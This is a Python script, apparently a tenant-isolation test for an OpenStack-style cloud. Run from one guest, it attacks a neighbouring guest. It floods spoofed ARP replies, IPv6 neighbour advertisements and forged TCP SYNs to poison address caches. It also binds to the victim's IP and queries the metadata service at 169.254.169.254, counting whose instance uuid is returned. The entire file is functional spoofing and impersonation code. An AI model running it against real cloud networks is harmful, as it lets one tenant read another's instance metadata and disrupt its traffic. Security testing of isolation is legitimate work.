# neighbour.py SECONDS OWN_IP OWN_MAC VICTIM_IP VICTIM_MAC SERVICE_MAC: a guest that does its worst to another one of its
# network, in whose namespace this runs. Prints, as JSON, how often it asked as whom, and what it was answered as.
import collections, json, socket, struct, sys, threading, time

seconds, own_ip, own_mac, victim_ip, victim_mac, service_mac = float(sys.argv[1]), *sys.argv[2:]
end = time.monotonic() + seconds
METADATA, METADATA6 = "169.254.169.254", "fe80::a9fe:a9fe"
mac = lambda text: bytes.fromhex(text.replace(":", ""))
ip = socket.inet_aton
ALL = b"\xff" * 6


def arp(source, sender_mac, sender, to=ALL, operation=2, target=b"\0\0\0\0"):
    return to + source + struct.pack("!HHHBBH", 0x0806, 1, 0x0800, 6, 4, operation) + sender_mac + sender + to + target


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def advertisement(source, address):
    group = socket.inet_pton(socket.AF_INET6, "ff02::1")
    own = socket.inet_pton(socket.AF_INET6, address)
    body = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + own + b"\x02\x01" + source
    pseudo = own + group + struct.pack("!I3xB", len(body), 58)
    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
    head = struct.pack("!IHBB", 0x60000000, len(body), 58, 255)
    return b"\x33\x33\0\0\0\x01" + source + b"\x86\xdd" + head + own + group + body


def syn(source, sender):
    tcp = struct.pack("!HHIIBBHHH", 40000, 80, 1, 0, 5 << 4, 2, 1024, 0, 0)
    pseudo = ip(sender) + ip(METADATA) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 1, 0, 64, 6, 0) + ip(sender) + ip(METADATA)
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    return mac(service_mac) + source + b"\x08\0" + head + tcp


FRAMES = [
    # The victim's MAC and address, towards whoever learns them.
    arp(mac(victim_mac), mac(victim_mac), ip(victim_ip)),
    arp(mac(own_mac), mac(own_mac), ip(victim_ip)),
    syn(mac(victim_mac), victim_ip),
    # The service's, and the listener's.
    arp(mac(own_mac), mac(own_mac), ip(METADATA)),
    arp(mac(service_mac), mac(service_mac), ip(METADATA)),
    arp(mac(own_mac), mac(own_mac), ip(METADATA), mac(victim_mac)),
    advertisement(mac(own_mac), METADATA6),
    advertisement(mac(own_mac), "fd00:ec2::254"),
]


def flood():
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind(("eth0", 0))
    sent = 0
    while time.monotonic() < end:
        for frame in FRAMES:
            try:
                out.send(frame)
                sent += 1
            except OSError:
                pass
        time.sleep(0.001)
    counts["sent"] = sent


counts = collections.Counter()
answers = collections.Counter()


def ask(source):
    """Waits with an open connection, as whoever it claims to be, and asks; again and again."""
    while time.monotonic() < end:
        try:
            connection = socket.socket()
            connection.settimeout(2)
            connection.bind((source, 0))
            connection.connect((METADATA, 80))
            time.sleep(0.02)
            connection.sendall(b"GET /openstack/latest/meta_data.json HTTP/1.1\r\nHost: 169.254.169.254\r\nConnection: close\r\n\r\n")
            text = b""
            while part := connection.recv(65536):
                text += part
            answers[json.loads(text.split(b"\r\n\r\n", 1)[1])["uuid"]] += 1
        except (OSError, ValueError, KeyError, IndexError):
            counts["unanswered"] += 1
        finally:
            connection.close()


threads = [threading.Thread(target=flood)] + [threading.Thread(target=ask, args=(source,)) for source in (own_ip, victim_ip)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
print(json.dumps({"answers": answers, **counts}))
